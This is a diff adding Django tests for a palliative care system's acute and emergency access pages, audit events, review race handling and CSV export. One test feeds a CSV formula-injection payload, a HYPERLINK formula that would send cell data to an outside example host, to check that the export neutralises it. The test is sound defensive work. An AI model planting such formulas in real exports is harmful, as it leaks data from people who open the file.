@@ -6,6 +6,7 @@ produces the patient's access report as a page, CSV and PDF."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 
@@ -231,3 +232,146 @@ def test_start_page_has_search_for_acute_roles(hap, client_for):
     home = client_for(hap).get(reverse("ui:home")).content.decode()
     assert 'data-section="acute_search"' in home
     assert timezone.now()
+
+
+@pytest.fixture
+def unshared_patient():
+    """A patient with a care plan but no consent to share it with acute care."""
+    PostcodeAreaFactory(pc4="9401")
+    return CarePlanFactory(
+        patient__given_name="Wilhelmina",
+        patient__family_name="Zwanenburg",
+        patient__street="Kerkstraat",
+        patient__house_number="12",
+        patient__postcode="9401 AB",
+        patient__city="Assen",
+        patient__gp_practice__name="Praktijk De Linde",
+        patient__gp_practice__phone="0592 123 456",
+    ).patient
+
+
+def _identity(patient):
+    return {
+        "name": patient.family_name,
+        "date of birth": patient.date_of_birth.strftime("%-d-%-m-%Y"),
+        "bsn": patient.bsn,
+        "street": patient.street,
+        "postcode": patient.postcode,
+        "gp practice": patient.gp_practice.name,
+    }
+
+
+def test_no_shared_plan_without_search_shows_nothing_about_the_patient(
+    hap, unshared_patient, client_for
+):
+    """Opening /acute/patients/<pk>/ without a search must not let acute roles enumerate the
+    register: no name, date of birth, BSN, address or GP practice."""
+    response = client_for(hap).get(reverse("acute:summary", args=[unshared_patient.pk]))
+    page = response.content.decode()
+    assert response.status_code == 200 and "Geen gedeeld plan" in page
+    assert 'data-testid="no-shared-plan"' in page and "Openen met noodtoegang" in page
+    for what, value in _identity(unshared_patient).items():
+        assert value not in page, what
+    event = AuditEvent.objects.get(event_type="acute.no_shared_plan")
+    assert event.patient_id == unshared_patient.pk and event.outcome == "denied"
+    assert event.details["identity_shown"] is False
+
+
+def test_no_shared_plan_after_search_shows_name_and_birth_date_only(
+    hap, unshared_patient, client_for
+):
+    client = client_for(hap)
+    found = client.post(reverse("acute:search"), {"bsn": unshared_patient.bsn})
+    page = client.get(found["Location"]).content.decode()
+    identity = _identity(unshared_patient)
+    assert identity["name"] in page and identity["date of birth"] in page
+    assert identity["gp practice"] in page  # the practice to call
+    for what in ("bsn", "street", "postcode"):
+        assert identity[what] not in page, what
+    event = AuditEvent.objects.get(event_type="acute.no_shared_plan")
+    assert event.details["identity_shown"] is True
+
+
+def test_invalid_emergency_request_is_logged_and_shows_nothing(hap, unshared_patient, client_for):
+    """An emergency-access POST without a reason used to read the patient without a log entry
+    and show the identity strip."""
+    client = client_for(hap)
+    url = reverse("acute:emergency", args=[unshared_patient.pk])
+    response = client.post(url, {"reason_code": ""})
+    page = response.content.decode()
+    assert response.status_code == 200 and "Geen gedeeld plan" in page
+    assert not EmergencyAccess.objects.exists()
+    for what, value in _identity(unshared_patient).items():
+        assert value not in page, what
+    event = AuditEvent.objects.get(event_type="acute.no_shared_plan")
+    assert event.patient_id == unshared_patient.pk and event.outcome == "denied"
+    assert event.details["via"] == "emergency_form"
+    missing = reverse("acute:emergency", args=[unshared_patient.pk + 1000])
+    assert client.post(missing, {"reason_code": ""}).status_code == 404
+    assert client.post(missing, {}).status_code == 404
+
+
+def test_opening_an_emergency_access_to_review_it_is_logged(make_actor, client_for):
+    """The review page names the patient: a read with the privacy-review legal ground."""
+    privacy = make_actor(RoleCode.PRIVACY_OFFICER)
+    grant = EmergencyAccessFactory()
+    client = client_for(privacy)
+    page = client.get(reverse("acute:review", args=[grant.pk])).content.decode()
+    assert grant.patient.family_name in page
+    event = AuditEvent.objects.get(event_type="acute.review_read")
+    assert event.patient_id == grant.patient_id and event.purpose == "privacy_review"
+    assert event.subject_id == str(grant.pk)
+    invalid = client.post(reverse("acute:review", args=[grant.pk]), {"conclusion": ""})
+    assert invalid.status_code == 200
+    assert AuditEvent.objects.filter(event_type="acute.review_read").count() == 2
+    report = client.get(reverse("acute:access_report", args=[grant.patient_id])).content.decode()
+    assert "opende een noodtoegang om die te beoordelen" in report
+
+
+def test_access_report_csv_neutralises_formulas(hap, make_actor, client_for):
+    """The emergency reason and names are free text: a cell that starts like a formula gets a
+    quote, so the CSV cannot run anything when opened in a spreadsheet."""
+    patient = CarePlanFactory().patient
+    reason = '=HYPERLINK("https://example.org/?x="&A1;"klik")'
+    hap.user.first_name = "@SUM(1+1)"
+    hap.user.save()
+    services.start_emergency_access(
+        hap, patient, reason_code=EmergencyReason.LIFE_THREATENING, reason=reason
+    )
+    access.open_acute_summary(hap, patient.pk)  # logged with the reason as given
+    client = client_for(make_actor(RoleCode.PRIVACY_OFFICER))
+    url = reverse("acute:access_report", args=[patient.pk]) + "?format=csv"
+    text = client.get(url).content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+    assert "'" + reason in cells
+    assert any(cell.startswith("'@SUM(1+1)") for cell in cells)
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
+
+
+def test_double_review_is_refused_with_a_message(make_actor, client_for, monkeypatch):
+    """A double submit (or two officers at once) used to end in an IntegrityError (500) when
+    both passed the "already reviewed?" check before either saved."""
+    privacy = make_actor(RoleCode.PRIVACY_OFFICER)
+    grant = EmergencyAccessFactory()
+    client = client_for(privacy)
+    url = reverse("acute:review", args=[grant.pk])
+    assert client.post(url, {"conclusion": ReviewConclusion.JUSTIFIED}).status_code == 302
+    again = client.post(url, {"conclusion": ReviewConclusion.JUSTIFIED})
+    assert again.status_code == 200 and "al beoordeeld" in again.content.decode()
+    # The race: the other submit's review lands after this one's "already reviewed?" check.
+    from django.db.models import QuerySet
+
+    from palliare.acute.models import EmergencyAccessReview
+
+    real_exists = QuerySet.exists
+    monkeypatch.setattr(
+        QuerySet,
+        "exists",
+        lambda qs: False if qs.model is EmergencyAccessReview else real_exists(qs),
+    )
+    client.raise_request_exception = False
+    raced = client.post(url, {"conclusion": ReviewConclusion.JUSTIFIED})
+    assert raced.status_code == 200 and "al beoordeeld" in raced.content.decode()
+    with pytest.raises(ValidationError):
+        services.review_emergency_access(privacy, grant, conclusion=ReviewConclusion.JUSTIFIED)
+    assert AuditEvent.objects.filter(event_type="acute.emergency_access_reviewed").count() == 1
